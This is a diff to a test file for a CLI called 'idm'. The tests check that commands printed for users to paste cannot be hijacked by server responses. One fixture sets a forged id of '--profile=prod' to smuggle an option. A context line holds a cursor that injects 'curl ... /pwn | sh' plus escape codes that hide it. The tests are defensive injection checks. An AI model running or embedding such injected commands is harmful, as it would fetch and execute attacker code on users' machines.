@@ -51,6 +51,32 @@ describe('commands printed for the user to run are shell-quoted', () => {
     }
   });
 
+  it("an id the answer names is no option of a command printed: streams create's and streams test's follow-ups", async () => {
+    // `--profile=prod` is made of characters a shell leaves alone: quoting cannot help, the word
+    // would switch the tenant of the command pasted.
+    const forged = '--profile=prod';
+    const event = 'evt_followup00000000000000';
+    answer = (request) => {
+      if (request.method === 'POST' && isList(request)) return { status: 201, body: { ...STREAM, id: forged } };
+      if (request.url === `/api/v2/event-streams/${STREAM.id}/test`) {
+        return { body: { id: event, event_stream_id: forged, status: 'failed', event_type: 'user.created', attempts: [{ status: 'failed', error_message: '500 no' }] } };
+      }
+      return undefined;
+    };
+    const created = await idm(['streams', 'create', '--name', 'n', '--event-type', 'user.created', '--action', 'a'], { env: env() });
+    expect(created.code).toBe(0);
+    expect(created.stderr).toContain(`Created stream ${forged}.`);
+    expect(created.stderr).not.toContain('idm streams test');
+    const tested = await idm(['streams', 'test', STREAM.id, '--event-type', 'user.created'], { env: env() });
+    expect(tested.code).toBe(3);
+    expect(tested.stderr).toContain(`See it: idm streams deliveries show ${STREAM.id} ${event}\n`);
+    expect(tested.stderr).toContain(`Send it again: idm streams redeliver ${STREAM.id} ${event}\n`);
+    expect(tested.stderr).not.toContain(forged);
+    const json = await idm(['streams', 'test', STREAM.id, '--event-type', 'user.created', '--json'], { env: env() });
+    expect(json.code).toBe(3);
+    expect(JSON.parse(json.stderr).error.hint).toBe(`See it with 'idm streams deliveries show ${STREAM.id} ${event}'; send it again with 'idm streams redeliver ${STREAM.id} ${event}'.`);
+  });
+
   it('a cursor with control characters is a bad answer, never printed', async () => {
     answer = (request) => (isList(request) ? { body: { eventStreams: [STREAM], next: 'abc; curl -s http://127.0.0.1:47002/pwn | sh #\u001b[2K\rMore streams: none' } } : undefined);
     const result = await idm(['streams', 'list', '--take', '1', '--no-color'], { env: env(), tty: true });
